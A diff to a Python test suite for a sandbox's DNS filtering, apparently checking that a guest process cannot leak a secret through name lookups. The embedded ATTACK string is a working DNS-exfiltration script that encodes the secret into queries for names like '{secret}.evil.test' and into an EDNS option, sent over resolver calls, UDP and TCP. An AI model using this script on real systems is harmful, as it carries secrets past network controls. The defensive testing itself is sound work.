@@ -1,5 +1,5 @@
 """A guest carries a secret out by the names that it asks for, and lets in what an attacker's name server answers: by every way that
-programs resolve, by questions of its own making, and by a name server of its own choice."""
+programs resolve, by questions of its own making, by UDP and by TCP, and by a name server of its own choice."""
 
 from __future__ import annotations
 
@@ -8,6 +8,7 @@ import sys
 import dns.message
 import dns.rdatatype
 import dns.rrset
+import pytest
 
 import sandbox
 from sandbox import Allow, Deny
@@ -20,9 +21,9 @@ __all__ = ["server", "upstream"]
 SECRET, ZONE = "c2VjcmV0", "one.test 300 A 192.0.2.7"
 ATTACK = """
 import socket, struct, sys
-secret, servers = sys.argv[1], [("127.0.0.53", 53)] + [tuple(each.split("#")) for each in sys.argv[2:]]
+secret, ways, servers = sys.argv[1], sys.argv[2], [("127.0.0.53", 53)] + [tuple(each.split("#")) for each in sys.argv[3:]]
 names = [f"{secret}.evil.test", f"{secret}.one.test", f"x.{secret}.deep.open.test", secret, f"one.test.{secret}", f"{secret}.closed.open.test"]
-for name in names:
+for name in names if "library" in ways else ():
     for ask in (socket.gethostbyname_ex, lambda name: socket.getaddrinfo(name, 80), lambda name: socket.getnameinfo((name, 80), 0)):
         try: print("answer", ask(name))
         except OSError: pass
@@ -30,18 +31,25 @@ def question(name, kind, more=b"", opcode=0):
     labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\\0"
     return struct.pack("!6H", 7, 0x100 | opcode << 11, 1, 0, 0, 1 if more else 0) + labels + struct.pack("!HH", kind, 1) + more
 option = b"\\0" + struct.pack("!HHIH", 41, 4096, 0, 4 + len(secret)) + struct.pack("!HH", 65001, len(secret)) + secret.encode()
+def by_udp(host, port, questions):
+    with socket.socket(type=socket.SOCK_DGRAM) as plain:
+        plain.settimeout(0.02 if host != "127.0.0.53" else 5)
+        for each in questions:
+            try: plain.sendto(each, (host, port)); plain.recv(4096)
+            except OSError: pass
+def by_tcp(host, port, questions):
+    try:
+        with socket.create_connection((host, port), 0.02 if host != "127.0.0.53" else 5) as stream:
+            stream.sendall(b"".join(struct.pack("!H", len(each)) + each for each in questions))
+            stream.shutdown(socket.SHUT_WR)
+            while stream.recv(65536): pass
+    except OSError: pass
 for host, port in servers:
     for kind in (1, 10, 12, 16, 28, 255, 65280):
         for opcode in (0, 2, 4, 5):
-            with socket.socket(type=socket.SOCK_DGRAM) as plain:
-                plain.settimeout(0.02 if host != "127.0.0.53" else 5)
-                for name in names:
-                    try:
-                        plain.sendto(question(name, kind, opcode=opcode), (host, int(port)))
-                        plain.recv(4096)
-                    except OSError: pass
-                try: plain.sendto(question("one.test", kind, option, opcode), (host, int(port))); plain.recv(4096)
-                except OSError: pass
+            questions = [question(name, kind, opcode=opcode) for name in names] + [question("one.test", kind, option, opcode)]
+            if "udp" in ways: by_udp(host, int(port), questions)
+            if "tcp" in ways: by_tcp(host, int(port), questions)
 """
 
 
@@ -53,15 +61,16 @@ def test_nothing_is_carried_out(upstream: NameServer, walls: str) -> None:
     rules = [Allow("one.test"), Deny("*.closed.open.test"), Allow("one.open.test")]
     host, port = upstream.address
     with box(walls, network=rules) as guest:
-        done = guest.run([sys.executable, "-c", ATTACK, SECRET, f"{host}#{port}", "192.0.2.53#53"], text=True, timeout=110)
+        done = guest.run([sys.executable, "-c", ATTACK, SECRET, "library,udp,tcp", f"{host}#{port}", "192.0.2.53#53"], text=True, timeout=110)
     assert done.returncode == 0 and "answer" not in done.stdout, done
     assert set(upstream.names) <= {"one.test"} and upstream.names, upstream.names
     assert not any(SECRET.lower() in seen.query.to_text().lower() for seen in upstream.seen)
 
 
-def test_a_rule_for_every_name_carries_it(upstream: NameServer) -> None:
+@pytest.mark.parametrize("way", ["library", "udp", "tcp"])
+def test_a_rule_for_every_name_carries_it(upstream: NameServer, way: str) -> None:
     """Without the guard that it names."""
-    sandbox.run([sys.executable, "-c", ATTACK, SECRET], network=[Allow("*")], timeout=110)
+    sandbox.run([sys.executable, "-c", ATTACK, SECRET, way], network=[Allow("*")], timeout=110)
     assert any(SECRET.lower() in name.lower() for name in upstream.names)
 
 
